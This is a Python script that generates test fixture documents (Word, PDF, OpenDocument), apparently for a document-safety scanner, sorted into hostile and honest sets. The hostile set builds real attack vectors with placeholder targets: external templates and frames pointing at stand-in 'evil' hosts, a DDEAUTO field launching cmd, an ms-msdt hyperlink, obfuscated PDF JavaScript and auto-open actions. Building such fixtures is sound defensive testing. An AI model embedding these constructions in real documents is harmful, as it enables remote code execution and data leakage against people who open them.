#!/usr/bin/env python3
"""Adds to honest/ and hostile/ files that no program would write, part by part; run after make.py. The build does not run
this; the files are kept."""
import io, os, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

CT='<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>%s</Types>'
RELS='<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>%s</Relationships>'
W='xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
def doc(body='<w:p><w:r><w:t>Hola</w:t></w:r></w:p>',ct='',rels='',drels=None,extra=None,order=None):
    b=io.BytesIO(); z=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED)
    z.writestr('[Content_Types].xml',CT%ct); z.writestr('_rels/.rels',RELS%rels)
    z.writestr('word/document.xml',f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>')
    if drels: z.writestr('word/_rels/document.xml.rels','<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'+drels+'</Relationships>')
    for k,v in (extra or {}).items(): z.writestr(k,v)
    z.close(); return b.getvalue()
O='http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
def rel(t,target,mode='',i='x1'): return f'<Relationship Id="{i}" Type="{t}" Target="{target}"'+(f' TargetMode="{mode}"' if mode else '')+'/>'
def pdf(cat='',extra=[],page=''):
    objs=[f'<< /Type /Catalog /Pages 2 0 R {cat} >>','<< /Type /Pages /Kids [3 0 R] /Count 1 >>',f'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page} >>']+extra
    o=b'%PDF-1.7\n';off=[]
    for i,x in enumerate(objs,1):
        off.append(len(o)); x=x if isinstance(x,bytes) else x.encode(); o+=f'{i} 0 obj\n'.encode()+x+b'\nendobj\n'
    xr=len(o); o+=f'xref\n0 {len(objs)+1}\n0000000000 65535 f \n'.encode()+b''.join(b'%010d 00000 n \n'%y for y in off)+f'trailer << /Size {len(objs)+1} /Root 1 0 R >>\nstartxref\n{xr}\n%%EOF'.encode(); return o
def odt(content='<text:p>hola</text:p>',extra=None,mani=''):
    b=io.BytesIO(); z=zipfile.ZipFile(b,'w'); z.writestr('mimetype','application/vnd.oasis.opendocument.text')
    ns='xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"'
    z.writestr('content.xml',f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2"><office:body><office:text>{content}</office:text></office:body></office:document-content>')
    z.writestr('META-INF/manifest.xml',f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>{mani}</manifest:manifest>')
    for k,v in (extra or {}).items(): z.writestr(k,v)
    z.close(); return b.getvalue()

HOSTILE = {
    'root-part-elsewhere.docx':doc(rels=rel(O+'image','http://evil.example/x.png','External','r9')),
    'includes-a-picture-in-pieces.docx':doc('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "\\\\evil\\a.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    'dde-within-a-field.docx':doc('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    'field-written-in-character-codes.docx':doc('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    'template-elsewhere-in-strict.docx':doc(drels=rel('http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate','file://evil/share/t.dotm','External')),
    'frame-elsewhere.docx':doc(drels=rel(O+'frame','http://evil/x.htm','External')),
    'subdocument-elsewhere.docx':doc(drels=rel(O+'subDocument','file:///x.docx','External')),
    'link-that-starts-a-tool.docx':doc('<w:p><w:hyperlink r:id="x1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',drels=rel(O+'hyperlink','ms-msdt:/id PCWDiagnostic','External')),
    'control.docx':doc(drels=rel('http://schemas.openxmlformats.org/officeDocument/2006/relationships/control','activeX/activeX1.xml'),extra={'word/activeX/activeX1.xml':'<x/>'}),
    'object-elsewhere-in-mhtml.docx':doc(drels=rel(O+'oleObject','mhtml:http://evil!x-usc:http://evil','External')),
    'own-buttons.docx':doc(rels=rel('http://schemas.microsoft.com/office/2006/relationships/ui/extensibility','customUI.xml','','r8'),extra={'customUI.xml':'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>'}),
    'javascript-by-a-coded-name.pdf':pdf('/Open#41ction << /S /J#61vaScript /JS (app.alert(1)) >>'),
    'acts-when-its-page-opens.pdf':pdf(page='/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 1 1] /AA << /PO << /S /URI /URI (http://evil) >> >> >>]'),
    'goes-into-an-attachment.pdf':pdf('/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>'),
    'javascript-in-a-tree-of-names.pdf':pdf('/Names << /JavaScript << /Kids [4 0 R] >> >>',['<< /Limits [(a)(a)] /Names [(a) << /S /JavaScript /JS (x) >>] >>']),
    'rich-media.pdf':pdf(page='/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] /RichMediaContent << >> >>]'),
    'draws-another-file.pdf':pdf(page='/Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R',extra=[b'<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F << /Type /Filespec /FS /URL /F (http://evil/x.pdf) >> /Page 0 >> /Length 0 >>\nstream\n\nendstream',b'<< /Length 5 >>\nstream\n/X Do\nendstream']),
    'link-to-a-script.odt':odt('<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>'),
    'frame-elsewhere.odt':odt('<text:p><draw:frame><draw:floating-frame xlink:href="http://evil/"/></draw:frame></text:p>'),
    'plugin.odt':odt('<text:p><draw:frame><draw:plugin xlink:href="http://evil/a.swf"/></draw:frame></text:p>'),
}
HONEST = {
    'link-with-a-query.docx':doc('<w:p><w:hyperlink r:id="x1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',drels=rel(O+'hyperlink','https://b.org/a?b=c#d','External')),
    'table-of-contents.docx':doc('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" \\h \\z \\u </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    'link.pdf':pdf(page='/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://corett.org) >> >>]'),
    'opens-at-its-first-page.pdf':pdf('/OpenAction [3 0 R /Fit] /PageMode /UseOutlines'),
    'link.odt':odt('<text:p><text:a xlink:href="https://b.org">x</text:a></text:p>'),
}

for folder, files in (('hostile', HOSTILE), ('honest', HONEST)):
    for name, content in files.items():
        with open(os.path.join(HERE, folder, name), 'wb') as file:
            file.write(content)
